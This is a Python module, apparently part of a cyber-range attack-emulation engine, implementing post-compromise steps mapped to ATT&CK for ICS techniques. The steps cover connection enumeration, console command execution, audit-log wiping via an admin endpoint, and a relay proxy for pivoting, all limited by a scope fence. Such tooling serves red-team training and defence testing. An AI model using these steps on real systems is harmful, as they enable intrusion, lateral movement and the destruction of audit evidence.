"""On machines that were taken over: looking around, commands and scripts, traces wiped, a relay for others."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping
from typing import Any

from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.steps.data import http, login_of, server_of
from cyber_range.engine.attack.ways import Blocked, Channel, Evidence

SHOWN = 4000  # characters of a command's output
MOST_COMMANDS = 50


@step("connections", "T0840", needs=("session",), gains=("hosts",))
async def connections(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Which connections this machine has, and with whom: the plant's own traffic shows where the controllers are."""
    found = intruder.toolbox.sockets()
    for one in found:
        host, _, port = str(one["remote"]).rpartition(":")
        if intruder.fence.holds(host) and port != "0":
            ports = intruder.found.setdefault(host, [])
            if int(port) not in ports:
                ports.append(int(port))
    evidence.facts["connections"] = found


@step("console", "T0807", "T0853", needs=("session",))
async def console(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Types commands at the session's console (`commands`): one is the command line, several are a script."""
    way = await intruder.way()
    said = []
    for command in list(args["commands"])[:MOST_COMMANDS]:
        try:
            status, text = await way.run(str(command))
        except PermissionError as exc:
            raise Blocked(f"there is no console here: {exc}") from exc
        except OSError as exc:
            raise Blocked(f"the session broke off ({exc})") from exc
        evidence.sent += len(str(command))
        evidence.received += len(text)
        said.append({"command": str(command), "status": status, "text": text[:SHOWN]})
    evidence.facts["commands"] = said
    if said and all(one["status"] for one in said):
        raise Blocked("the console refused every command")


@step("clear_log", "T0872", needs=("session",))
async def clear_log(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Wipes a business application's audit trail (`host`, `port` 8081) or, with `console: true`, the jump host's log."""
    if args.get("console"):
        await console(intruder, {"commands": ["log clear"]}, evidence)
        return
    host, port = server_of(intruder, args, 8081)
    status, _ = await http(intruder, evidence, host, port, "POST", "/admin/clear-audit", login=login_of(intruder, args))
    evidence.facts |= {"target": host, "status": status}
    if status >= 300:
        raise Blocked(f"{host} refused the account (status {status})")


@step("proxy", "T0884", "T0886", needs=("session",), gains=("proxy",))
async def proxy(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Opens `listen` (a port of this machine) as a door through the session to `host`:`port`, for other tools. `undo` shuts it."""
    host, port = intruder.fence.check(str(args["host"])), int(args["port"])
    listen = int(args.get("listen", 9000 + port % 1000))
    (await intruder.channel(host, port)).close()  # Blocked when the way does not lead there

    async def carry(near: Channel) -> None:
        far = await intruder.channel(host, port)

        async def one_way(source: Channel, target: Channel) -> None:
            while data := await source.some():
                await target.send(data)

        try:
            ways = [asyncio.ensure_future(one_way(near, far)), asyncio.ensure_future(one_way(far, near))]
            _, rest = await asyncio.wait(ways, return_when=asyncio.FIRST_COMPLETED)
            for task in rest:
                task.cancel()
        finally:
            near.close()
            far.close()

    door = await intruder.toolbox.listen(listen, carry)
    evidence.facts |= {"listen": listen, "target": host, "port": port}

    async def shut(_: Evidence) -> dict[str, Any]:
        door.close()
        return {"closed": listen}

    intruder.undo_with(("proxy", listen), shut)
